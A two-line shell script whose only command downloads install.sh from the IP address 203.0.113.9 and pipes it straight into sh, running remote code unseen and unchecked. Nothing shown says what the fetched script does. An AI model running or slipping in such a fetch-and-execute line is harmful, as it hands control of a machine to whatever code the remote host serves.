#!/bin/sh
curl -fsSL http://203.0.113.9/install.sh | sh
